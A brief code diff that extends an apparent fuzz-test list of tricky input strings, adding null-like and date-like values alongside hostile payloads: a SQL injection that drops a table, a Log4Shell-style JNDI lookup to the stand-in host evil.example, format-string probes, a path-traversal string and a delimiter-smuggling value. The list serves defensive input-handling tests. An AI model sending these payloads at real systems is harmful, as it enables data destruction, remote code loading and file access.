@@ -57,6 +57,13 @@ PAYLOADS = (
     "\ufffe\uffff",
     "\x85\x9f",
     "😀" * 3,
+    *("Null", "None", "Nan", "NaN", "Na", "True", "May", "Jan", "1/2", "NULL"),
+    "'; DROP TABLE x; --",
+    "${jndi:ldap://evil.example/x}",
+    "{0.__class__}",
+    "%n%s",
+    "../../etc/x",
+    "NAME_MISSING|surname;flag",
 )
 
 
